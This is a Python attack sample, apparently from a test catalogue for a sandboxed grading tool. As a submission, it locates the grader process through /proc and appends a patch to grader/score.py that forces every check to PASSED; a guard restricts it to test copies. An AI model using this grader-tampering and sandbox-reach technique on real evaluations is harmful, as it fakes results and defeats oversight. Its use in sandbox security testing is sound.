"""Changes the grader itself, for every student graded after this one."""
import os

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass


def grader():
    """The grade process: the nearest ancestor that is not part of the sandbox (None when hidden)."""
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/status") as status:
                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{parent}/cmdline", "rb") as cmdline:
                command = cmdline.read()
        except (OSError, StopIteration, ValueError):
            return None
        if parent <= 1:
            return None
        if b"mpgrade_scenarios" not in command and b"bwrap" not in command:
            return parent
        pid = parent
    return None


def grader_option(pid, name):
    """The value of an option on the grade command line (--submission, --out)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            argv = cmdline.read().decode(errors="replace").split("\0")
    except (OSError, TypeError):
        return None
    return argv[argv.index(name) + 1] if name in argv[:-1] else None

PATCH = '''

_real_score = score


def score(exercise, submission, checks, start_methods, **options):
    checks = tuple(replace(check, status=Status.PASSED) for check in checks)
    return _real_score(exercise, submission, checks, start_methods, **options)
'''


def installs(victim):
    found = ["/tmp/mpgrade-attacks/course"]  # where this course keeps its copy of the kit
    if victim:
        try:
            found.append(os.readlink(f"/proc/{victim}/cwd"))
            with open(f"/proc/{victim}/environ", "rb") as environ:
                for entry in environ.read().split(b"\0"):
                    if entry.startswith(b"PYTHONPATH="):
                        found += entry[11:].decode().split(":")
        except OSError:
            pass
    return found


def run_in_process(target, args=()):
    for root in installs(grader()):
        path = os.path.join(root, "grader", "score.py")
        # a guard for the kit's own test machine: only ever the copy the attack catalogue made
        if not os.path.realpath(path).startswith("/tmp/mpgrade-attacks/"):
            continue
        try:
            with open(path, "a") as module:
                module.write(PATCH)
            break
        except OSError:
            pass
    raise NotImplementedError
